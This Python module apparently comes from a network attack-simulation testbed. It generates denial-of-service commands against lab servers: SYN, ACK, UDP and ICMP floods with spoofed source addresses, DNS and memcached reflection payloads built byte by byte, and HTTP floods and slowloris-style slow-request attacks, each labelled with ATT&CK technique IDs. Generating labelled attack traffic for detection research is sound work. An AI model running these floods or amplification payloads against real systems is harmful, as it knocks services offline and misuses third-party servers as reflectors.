"""Denial of service by volume: each run is capped at about two thousand packets of the attacker's."""

import struct

from testbed.attacks.material import ANYWHERE, forged, frames, hardware_address, maybe, others, user_agent, words
from testbed.attacks.web import item, root
from testbed.catalogue import Assault, attack
from testbed.conventions import website

NETWORK = "T1498.001"
AMPLIFIED = "T1498.002"
ENDPOINT = "T1499.002"
RAW = ("outside", "intruder", "client")
TCP_PORTS = (21, 22, 25, 80, 80, 443, 443, 445, 3306, 5432, 8080)


def interval(c, slowest: int = 3000) -> str:
    """Microseconds between two packets."""
    return f"-i u{c.between(400, slowest)}"


def victim(c) -> str:
    return others(c, 1, servers_only=True)[0]


@attack("dos_syn_flood", technique=NETWORK, tool="hping3", origins=RAW, packages=("hping3",), seconds=20)
def hping_syn(c):
    flood = words("hping3 -q -S", f"-p {c.choose(*TCP_PORTS)}", f"-w {c.choose(512, 1024, 5840, 64240, 65535)}",
                  maybe(c, 0.3, f"-d {c.between(10, 200)}"), maybe(c, 0.3, f"-t {c.between(40, 250)}"))
    if c.chance(0.4):
        return Assault(f"{flood} {interval(c)} -c {c.between(700, 1800)} {victim(c)}", variant="own address")
    sources = forged(c, c.between(2, 40))
    each = c.between(800, 1800) // len(sources)
    target, wait = victim(c), interval(c)
    return Assault(f"printf '%s\\n' {' '.join(sources)} | xargs -P {c.between(1, 6)} -I SOURCE {flood} {wait} -c {each}"
                   f" -a SOURCE {target}", variant=f"{len(sources)} forged addresses")


@attack("dos_syn_flood", technique=NETWORK, tool="nping", origins=RAW, packages=("nmap",), seconds=20)
def nping_syn(c):
    source = maybe(c, 0.5, f"-S {forged(c, 1)[0]}")
    return Assault(words("nping -q --send-ip --tcp --flags syn -N", f"-p {c.choose(*TCP_PORTS)} -g {c.between(1024, 65000)}",
                         f"--rate {c.between(100, 600)} -c {c.between(500, 1500)} --win {c.choose(512, 1480, 65535)}",
                         source, victim(c)))


@attack("dos_syn_flood", technique=NETWORK, tool="mausezahn", origins=RAW, packages=("netsniff-ng", "arping"), seconds=20)
def mausezahn_syn(c):
    source, target, port = forged(c, 1)[0], victim(c), c.choose(*TCP_PORTS)
    return Assault(f"mausezahn {c.host.device} -b {hardware_address(c, target)} -A {source} -B {target} -t tcp 'flags=syn,dp={port},"
                   f"sp=1024-{c.between(1400, 2400)}' -c 1 -d {c.between(500, 2500)}usec -q",
                   evidence=frames(c, "tcp", [target], [port], [source]), variant="forged address")


@attack("dos_syn_flood", technique=NETWORK, tool="trafgen", origins=RAW, packages=("netsniff-ng", "arping"), seconds=20)
def trafgen_syn(c):
    source, target, port = forged(c, 1)[0], victim(c), c.choose(*TCP_PORTS)
    packet = (f"{{ eth(da=%s), ipv4(saddr={source}, daddr={target}, ttl={c.between(40, 128)}, id=drnd()),"
              f" tcp(sp=drnd(), dp={port}, syn, seq=drnd(), win={c.between(500, 65535)}) }}")
    return Assault(f"printf '{packet}\\n' {hardware_address(c, target)} > packet.cfg; trafgen --cpp -P 1 -q"
                   f" -n {c.between(700, 1800)} -t {c.between(500, 2500)}us -o {c.host.device} -c packet.cfg",
                   evidence=frames(c, "tcp", [target], [port], [source]), variant="forged address")


@attack("dos_tcp_flood_ack", technique=NETWORK, tool="hping3", origins=RAW, packages=("hping3",), seconds=15)
def hping_ack(c):
    flags = c.choose("-A", "-A -P", "-R", "-A -F", "-A -U", "-X -Y")
    return Assault(words(f"hping3 -q {flags} -p {c.choose(*TCP_PORTS)}", maybe(c, 0.5, f"-k -s {c.between(1024, 65000)}"),
                         maybe(c, 0.4, f"-d {c.between(10, 800)}"), maybe(c, 0.4, f"-a {forged(c, 1)[0]}"),
                         interval(c), f"-c {c.between(600, 1700)} {victim(c)}"), variant=flags)


@attack("dos_tcp_flood_ack", technique=NETWORK, tool="nping", origins=RAW, packages=("nmap",), seconds=15)
def nping_ack(c):
    flags = c.choose("ack", "rst", "ack,psh", "ack,fin")
    return Assault(f"nping -q --send-ip --tcp --flags {flags} -N -p {c.choose(*TCP_PORTS)} -g {c.between(1024, 65000)}"
                   f" --seq {c.between(1, 2**31)} --ack {c.between(1, 2**31)} --rate {c.between(120, 600)}"
                   f" -c {c.between(500, 1500)} {victim(c)}", variant=flags)


@attack("dos_udp_flood", technique=NETWORK, tool="hping3", origins=RAW, packages=("hping3",), seconds=15)
def hping_udp(c):
    port = c.choose("53", "80", "123", f"++{c.between(1000, 30000)}", str(c.between(1, 65000)))
    return Assault(words(f"hping3 -q --udp -p {port}", maybe(c, 0.5, f"-k -s {c.between(1024, 65000)}"),
                         f"-d {c.between(1, 1200)} {interval(c)} -c {c.between(600, 1700)}",
                         maybe(c, 0.3, f"-a {forged(c, 1)[0]}"), victim(c)))


@attack("dos_udp_flood", technique=NETWORK, tool="nping", origins=RAW, packages=("nmap",), seconds=15)
def nping_flood(c):
    ports = ",".join(map(str, c.random.sample(range(1, 9000), c.between(1, 6))))
    rounds = c.between(600, 1500) // (ports.count(",") + 1)
    return Assault(f"nping -q --send-ip --udp -N -p {ports} --data-length {c.between(1, 1100)} --rate {c.between(120, 700)}"
                   f" -c {rounds} {victim(c)}")


@attack("dos_udp_flood", technique=NETWORK, tool="mausezahn", origins=RAW, packages=("netsniff-ng", "arping"), seconds=15)
def mausezahn_udp(c):
    target, port = victim(c), c.choose(53, 123, 161, 1900, 5060, c.between(1024, 60000))
    return Assault(f"mausezahn {c.host.device} -b {hardware_address(c, target)} -A {c.host.address} -B {target} -t udp 'dp={port},"
                   f"sp={c.between(1024, 60000)}' -p {c.between(10, 1200)} -c {c.between(500, 1500)}"
                   f" -d {c.between(500, 3000)}usec -q", evidence=frames(c, "udp", [target], [port]))


@attack("dos_icmp_flood", technique=NETWORK, tool="hping3", origins=RAW, packages=("hping3",), seconds=15)
def hping_icmp(c):
    return Assault(words("hping3 -q -1", maybe(c, 0.3, f"--icmptype {c.choose(13, 17)}") or f"-d {c.between(10, 1300)}",
                         f"{interval(c)} -c {c.between(600, 1700)}", maybe(c, 0.4, f"-a {forged(c, 1)[0]}"), victim(c)))


@attack("dos_icmp_flood", technique=NETWORK, tool="ping -f", origins=ANYWHERE, packages=("iputils-ping",), seconds=15)
def ping_flood(c):
    return Assault(words("ping -q -n -f", maybe(c, 0.5, f"-l {c.between(2, 8)}"),
                         f"-c {c.between(700, 1700)} -s {c.between(16, 1300)} -W 1 {victim(c)}"))


@attack("dos_icmp_flood", technique=NETWORK, tool="fping", origins=ANYWHERE, packages=("fping",), seconds=15)
def fping_flood(c):
    targets = others(c, c.between(1, 3), servers_only=True)
    return Assault(f"fping -q -p {c.between(10, 15)} -i 1 -t 500 -B 1 -c {c.between(700, 1500) // len(targets)}"
                   f" -b {c.between(16, 1200)} {' '.join(targets)}")


@attack("dos_icmp_flood", technique=NETWORK, tool="nping", origins=RAW, packages=("nmap",), seconds=15)
def nping_icmp(c):
    return Assault(words("nping -q --send-ip --icmp -N", f"--data-length {c.between(1, 1200)} --rate {c.between(120, 700)}",
                         f"-c {c.between(600, 1500)}", maybe(c, 0.3, f"-S {forged(c, 1)[0]}"), victim(c)))


def dns_question(c, name: str, kind: int) -> bytes:
    """A DNS query for a large answer (RFC 1035, RFC 6891)."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    header = struct.pack(">HHHHHH", c.between(1, 65535), 0x0100, 1, 0, 0, 1)
    return header + labels + b"\0" + struct.pack(">HH", kind, 1) + b"\0" + struct.pack(
        ">HHIH", 41, c.choose(1232, 2048, 4096), 0, 0)


def reflected(c, service: str, port: int, question: bytes) -> tuple[list[str], str]:
    """What makes a server answer somebody else: the forged source, and the command of hping3."""
    payload, source, target = c.write("question", question), forged(c, 1)[0], c.server(service).address
    command = words("hping3 -q --udp", maybe(c, 0.5, "-k"), f"-s {c.between(1025, 60000)} -p {port}",
                    f"-i u{c.between(8000, 50000)} -c {c.between(120, 400)} -d {len(question)} -E {payload}",
                    f"-a {source} {target}")
    return [source, target], command


def question(c) -> bytes:
    name, kind = c.choose(("big.test", 255), ("big.test", 16), (c.network.domain, 255), (c.choose(*c.network.sites), 255),
                          (c.network.domain, 16))
    return dns_question(c, name, kind)


@attack("dns_amplification", technique=AMPLIFIED, tool="hping3", origins=("outside",), needs=("dns",), packages=("hping3",),
        seconds=20)
def hping_reflected_dns(c):
    return Assault(reflected(c, "dns", 53, question(c))[1])


@attack("dns_amplification", technique=AMPLIFIED, tool="nping", origins=("outside",), needs=("dns",), packages=("nmap",),
        seconds=20)
def nping_reflected_dns(c):
    return Assault(f"nping -q --send-ip --udp -N -g {c.between(1025, 60000)} -p 53 --rate {c.between(20, 120)}"
                   f" -c {c.between(120, 400)} --data {question(c).hex()} -S {forged(c, 1)[0]} {c.server('dns').address}")


@attack("amp_memcached", technique=AMPLIFIED, tool="hping3", origins=("outside",), needs=("memcached",),
        packages=("hping3",), seconds=20)
def hping_reflected_memcached(c):
    return Assault(reflected(c, "memcached", 11211, memcached_question(c))[1])


@attack("amp_memcached", technique=AMPLIFIED, tool="nping", origins=("outside",), needs=("memcached",), packages=("nmap",),
        seconds=20)
def nping_reflected_memcached(c):
    return Assault(f"nping -q --send-ip --udp -N -g {c.between(1025, 60000)} -p 11211 --rate {c.between(20, 120)}"
                   f" -c {c.between(120, 400)} --data {memcached_question(c).hex()} -S {forged(c, 1)[0]}"
                   f" {c.server('memcached').address}")


def memcached_question(c) -> bytes:
    """A frame of memcached's UDP protocol with one command."""
    command = c.choose("stats", "stats items", "stats slabs", "stats settings")
    return struct.pack(">HHHH", c.between(1, 65535), 0, 1, 0) + command.encode() + b"\r\n"


def page(c) -> str:
    """A page that costs the server something."""
    return c.choose(f"{root(c)}/", f"{item(c)}{c.between(1, 90)}", f"{root(c)}{c.conventions.shop}/search?q=item")


@attack("dos_http_flood", technique=ENDPOINT, tool="ab", origins=ANYWHERE, needs=("web", "shop"), packages=("apache2-utils",),
        seconds=15)
def ab(c):
    return Assault(words("ab -q -r -s 5", f"-n {c.between(200, 450)} -c {c.between(5, 50)}", maybe(c, 0.4, "-k"),
                         f"-H 'User-Agent: {user_agent(c)}' '{page(c)}'"))


@attack("dos_http_flood", technique=ENDPOINT, tool="siege", origins=ANYWHERE, needs=("web", "shop"), packages=("siege",),
        seconds=15)
def siege(c):
    users = c.between(5, 30)
    return Assault(words(f"siege -q {c.choose('-b', '-d 0.3')} -c {users} -r {c.between(200, 450) // users}",
                         f"-A '{user_agent(c)}' '{page(c)}'"))


@attack("dos_http_flood", technique=ENDPOINT, tool="h2load", origins=ANYWHERE, needs=("web", "shop"),
        packages=("nghttp2-client",), seconds=15)
def h2load(c):
    connections = c.between(4, 30)
    return Assault(words(f"h2load -n {c.between(200, 450)} -c {connections}", c.choose("--h1", f"-m {c.between(1, 8)}"),
                         f"-H 'user-agent: {user_agent(c)}' https://{c.server('web').address}/"))


@attack("dos_http_flood", technique=ENDPOINT, tool="httperf", origins=ANYWHERE, needs=("web", "shop"), packages=("httperf",),
        seconds=15)
def httperf(c):
    calls = c.choose(1, 1, 3, 10)
    return Assault(f"httperf --hog --server {c.server('web').address} --port 80 --uri / --rate {c.between(20, 120)}"
                   f" --num-conns {c.between(200, 400) // calls} --num-calls {calls} --timeout 4")


@attack("dos_http_flood", technique=ENDPOINT, tool="wrk", origins=ANYWHERE, needs=("web", "shop"), packages=("wrk",),
        seconds=10)
def wrk(c):
    return Assault(words(f"wrk -t 1 -c {c.between(3, 15)} -d 1s", maybe(c, 0.6, "-H 'Connection: close'"),
                         f"-H 'User-Agent: {user_agent(c)}' '{page(c)}'"))


@attack("dos_slowloris", technique=ENDPOINT, tool="slowhttptest -H", origins=ANYWHERE, needs=("web", "shop"),
        packages=("slowhttptest",), seconds=40)
def slow_headers(c):
    return Assault(f"slowhttptest -H -c {c.between(40, 160)} -r {c.between(8, 40)} -i {c.between(2, 8)} -l {c.between(14, 32)}"
                   f" -p 3 -x {c.between(8, 40)} -t {c.choose('GET', 'HEAD', 'POST')} -u {root(c)}/")


@attack("dos_slowloris", technique=ENDPOINT, tool="nmap http-slowloris", origins=ANYWHERE, needs=("web", "shop"),
        packages=("nmap",), seconds=40)
def nmap_slowloris(c):
    return Assault(f"timeout -s INT {c.between(18, 34)} nmap -n -Pn -sT -p{c.choose(80, 443)} --script http-slowloris --script-args"
                   f" http-slowloris.timelimit={c.between(15, 30)}s,http-slowloris.send_interval={c.between(2, 6)}s"
                   f" --max-parallelism {c.between(30, 110)} {c.server('web').address}")


@attack("dos_slowbody", technique=ENDPOINT, tool="slowhttptest -B", origins=ANYWHERE, needs=("web", "shop"),
        packages=("slowhttptest",), seconds=40)
def slow_body(c):
    return Assault(f"slowhttptest -B -c {c.between(40, 150)} -r {c.between(8, 40)} -i {c.between(2, 8)} -l {c.between(14, 30)}"
                   f" -s {c.choose(2048, 8192, 65536)} -x {c.between(6, 32)} -p 3 -u {root(c)}{c.choose('/up', '/api')}")


@attack("dos_slowread", technique=ENDPOINT, tool="slowhttptest -X", origins=ANYWHERE, needs=("web", "shop"),
        packages=("slowhttptest",), seconds=40)
def slow_read(c):
    host = c.server("web")
    return Assault(f"slowhttptest -X -c {c.between(40, 130)} -r {c.between(8, 40)} -l {c.between(14, 30)} -w {c.between(8, 200)}"
                   f" -y {c.between(200, 600)} -n {c.between(2, 6)} -z {c.between(16, 64)} -k {c.between(1, 4)} -p 3"
                   f" -u {c.choose('http', 'https')}://{host.address}{c.choose(*website(host.name).downloads)}")
